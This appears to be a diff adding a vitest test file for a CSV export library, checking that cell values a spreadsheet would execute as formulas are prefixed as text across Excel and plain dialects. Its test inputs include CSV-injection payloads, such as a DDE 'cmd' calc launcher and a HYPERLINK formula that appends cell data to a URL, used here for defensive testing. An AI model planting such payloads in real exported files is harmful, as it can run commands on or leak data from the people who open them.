@@ -1,0 +1,137 @@
+import {existsSync, readdirSync, readFileSync} from "node:fs";
+import {parse} from "csv-parse/sync";
+import fc from "fast-check";
+import {describe, expect, test} from "vitest";
+import {dialectNames, dialects, formatNumber, formatText, isFormula} from "./dialects.js";
+
+test.each([
+  "=1+1",
+  "+34600111222",
+  "-2+3+cmd|' /C calc'!A0",
+  "- hola",
+  "-",
+  "@SUM(A1:A9)",
+  "\t=1+1",
+  "\r=1+1",
+  "\n=1+1",
+  "  =1+1",
+  '"=1+1"',
+  "'=1+1",
+  ' " =1+1',
+  "\u00a0=1+1",
+  "\u200b=1+1",
+  "\ufeff=1+1",
+  "\u0000=1+1",
+  "“=1+1”",
+  "＝1+1",
+  "＋1",
+  "－1",
+  "＠SUM(A1)",
+  "﹦1",
+  '=HYPERLINK("http://example.com?"&A1,"click")'
+])("a spreadsheet would run %j, so it is marked as text", (value) => {
+  expect(isFormula(value)).toBe(true);
+  for (const name of dialectNames) expect(formatText(value, dialects[name])).toMatch(/^"?'/);
+});
+
+test.each(["", " ", "Hola", "a=b", "5", "-5", "-5.25", "-5,25", "-1e5", "«Hola»", "'80s", "José", "12:30", "1-2"])(
+  "%j stays as it is",
+  (value) => {
+    expect(isFormula(value)).toBe(false);
+    expect(formatText(value, dialects.plain)).toBe(value.includes(",") ? `"${value}"` : value);
+  }
+);
+
+test("Excel gets ids of more than 15 digits as text, and everybody else as they are", () => {
+  expect(formatText("1234567890123456", dialects["excel-es"])).toBe("'1234567890123456");
+  expect(formatText("1234567890123456", dialects["excel-en"])).toBe("'1234567890123456");
+  expect(formatText("1234567890123456", dialects.plain)).toBe("1234567890123456");
+  expect(formatText("123456789012345", dialects["excel-es"])).toBe("123456789012345");
+  expect(formatNumber("1234567890123456", dialects["excel-es"])).toBe("'1234567890123456");
+});
+
+test("the decimal mark is the dialect's, in numbers only", () => {
+  expect(formatNumber("-1234.5", dialects["excel-es"])).toBe("-1234,5");
+  expect(formatNumber("-1234.5", dialects["excel-en"])).toBe("-1234.5");
+  expect(formatText("1.5", dialects["excel-es"])).toBe("1.5");
+});
+
+test("a separator of another region is quoted for Excel, and the plain dialect quotes only what it must", () => {
+  expect(formatText("hola;=1+1", dialects["excel-en"])).toBe('"hola;=1+1"');
+  expect(formatText("hola,=1+1", dialects["excel-es"])).toBe('"hola,=1+1"');
+  expect(formatText("hola;-)", dialects.plain)).toBe("hola;-)");
+});
+
+const text = fc.oneof(
+  fc.string({unit: "binary"}),
+  fc.string({
+    unit: fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", '"', "'", ",", ";", " ", "1", ".", "＝", "ñ", "\u200b")
+  }),
+  fc.bigInt().map(String)
+);
+
+describe.each(dialectNames)("dialect %s", (name) => {
+  const dialect = dialects[name];
+  const read = (file: string): string[][] =>
+    parse(file, {
+      delimiter: dialect.delimiter,
+      record_delimiter: dialect.lineEnding,
+      relax_column_count: false,
+      bom: false
+    });
+
+  test("any text comes back as it was, or with the mark before it", () => {
+    fc.assert(
+      fc.property(fc.array(fc.tuple(text, text, text), {minLength: 1}), (rows) => {
+        const file = rows
+          .map((row) => row.map((value) => formatText(value, dialect)).join(dialect.delimiter) + dialect.lineEnding)
+          .join("");
+        const expected = rows.map((row) => row.map((value) => marked(value)));
+        expect(read(file)).toEqual(expected);
+      }),
+      {numRuns: 2000}
+    );
+  });
+
+  test("no text comes back as a formula", () => {
+    fc.assert(
+      fc.property(text, (value) => {
+        const [[cell]] = read(`${formatText(value, dialect)}${dialect.delimiter}x${dialect.lineEnding}`) as [[string]];
+        const start = cell.replace(/^[\s"\u200b\ufeff]+/, "");
+        expect(/^[=@＝＠+＋]/.test(start)).toBe(false);
+        if (/^[-－]/.test(start)) expect(cell).toMatch(/^-\d/);
+      }),
+      {numRuns: 2000}
+    );
+  });
+
+  function marked(value: string): string {
+    const isLong = name !== "plain" && /^\s*-?\d{16,}\s*$/.test(value);
+    return isFormula(value) || isLong ? `'${value}` : value;
+  }
+});
+
+const fixtures = "../shared/fixtures";
+
+test.skipIf(!existsSync(fixtures))("every known attack is marked as text, and every naughty text comes back", () => {
+  const attacks = readLines(`${fixtures}/hostile-csv-injection`);
+  const naughty = readLines(`${fixtures}/hostile-blns`);
+  expect(attacks.filter(isFormula).length).toBeGreaterThanOrEqual(5);
+  for (const value of [...attacks, ...naughty]) {
+    for (const name of dialectNames) {
+      const cell = formatText(value, dialects[name]);
+      if (/^[\s"']*[=+@＝＋＠]/.test(value)) expect(cell).toMatch(/^"?'/);
+      const [[back]] = parse(`${cell}${dialects[name].delimiter}x\n`, {delimiter: dialects[name].delimiter}) as [
+        [string]
+      ];
+      expect([value, `'${value}`]).toContain(back);
+    }
+  }
+});
+
+function readLines(folder: string): string[] {
+  return readdirSync(folder, {recursive: true, encoding: "utf8"})
+    .filter((name) => /\.(txt|csv|json)$/.test(name))
+    .flatMap((name) => readFileSync(`${folder}/${name}`, "utf8").split("\n"))
+    .filter((line) => line !== "");
+}
